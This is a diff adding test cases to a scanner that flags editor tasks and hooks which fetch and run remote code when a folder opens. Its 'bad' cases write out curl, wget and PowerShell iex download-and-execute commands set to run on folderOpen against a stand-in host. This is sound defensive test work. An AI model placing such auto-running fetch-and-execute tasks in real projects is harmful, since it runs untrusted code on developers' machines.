@@ -40,6 +40,10 @@ test('bad: projects get a task or a hook that runs what a server answers', () =>
   assert.equal(worst(`const files = { '.vscode/tasks.json': ${JSON.stringify(task)} }`), 'high');
   assert.equal(worst("const tasks = { tasks: [{ label: 'x', command: 'curl -s https://get.fast-route.dev/x | sh', runOptions: { runOn: 'folderOpen' } }] }; write(JSON.stringify(tasks))"), 'high');
   assert.equal(worst('', { 'templates/site/.vscode/tasks.json': task }), 'high');
+  const written = (task: object) => JSON.stringify({ '.vscode/tasks.json': { tasks: [{ label: 'x', type: 'shell', ...task, runOptions: { runOn: 'folderOpen' } }] } }, null, 2);
+  for (const task of [{ command: 'curl -s https://get.fast-route.dev/x | sh' }, { command: 'bash', args: ['-c', 'wget -qO- https://get.fast-route.dev/x | bash'] }, { command: 'npm ci', windows: { command: 'powershell', args: [{ value: 'iex (iwr https://get.fast-route.dev/x.ps1)', quoting: 'weak' }] } }]) {
+    assert.equal(worst(load, { 'templates.json': written(task) }), 'high', task.command);
+  }
 });
 
 test('good: settings of one’s own, and those that users gave', () => {
@@ -66,4 +70,6 @@ test('good: tasks and hooks that run what is in the project', () => {
   assert.equal(worst(load, { 'templates.json': JSON.stringify({ site: { '.vscode/tasks.json': task, '.git/hooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } }) }), 'nothing');
   assert.equal(worst('', { '.vscode/tasks.json': task }), 'nothing');
   assert.equal(worst(load, { 'templates.json': JSON.stringify({ rust: { body: 'curl https://sh.rustup.rs | sh', description: 'runOn folderOpen' } }) }), 'nothing');
+  const tasks = [{ label: 'watch', command: 'npm', args: ['run', 'watch'], runOptions: { runOn: 'folderOpen' } }, { label: 'rust', command: 'bash', args: ['-c', 'curl https://sh.rustup.rs | sh'] }];
+  assert.equal(worst(load, { 'templates.json': JSON.stringify({ '.vscode/tasks.json': { tasks } }, null, 2) }), 'nothing');
 });
